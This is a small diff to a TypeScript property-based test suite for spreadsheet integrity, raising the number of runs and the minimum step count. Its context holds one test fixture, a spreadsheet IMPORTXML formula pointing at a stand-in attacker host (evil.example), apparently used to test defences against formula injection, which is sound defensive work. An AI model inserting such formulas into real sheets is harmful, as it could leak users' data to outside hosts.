@@ -25,7 +25,7 @@ import { call, OWNER, PT, PT2, records, sampleRuntime, sheetValues } from '../he
  */
 const KNOWN_BUGS = process.env.INTEGRITY_KNOWN_BUGS === '1';
 const SEED = Number(process.env.INTEGRITY_SEED ?? 15_2025);
-const RUNS = Number(process.env.INTEGRITY_RUNS ?? 22);
+const RUNS = Number(process.env.INTEGRITY_RUNS ?? 30);
 const MAX_STEPS = 12;
 const LEDGER_REPORT = '【プラチナ提案台帳】変更履歴の改ざん・削除の可能性';
 const FORMULA = '=IMPORTXML("https://evil.example/x","//a")';
@@ -589,7 +589,7 @@ describe('issue #15: random hand edits of every sheet with saves, sends and answ
     const kinds = new Map<string, number>();
     const started = Date.now();
     fc.assert(
-      fc.property(fc.array(step, { minLength: 1, maxLength: MAX_STEPS }), (seq) => {
+      fc.property(fc.array(step, { minLength: 3, maxLength: MAX_STEPS }), (seq) => {
         sequences++;
         const rt = sampleRuntime();
         const o = new Oracle(rt);
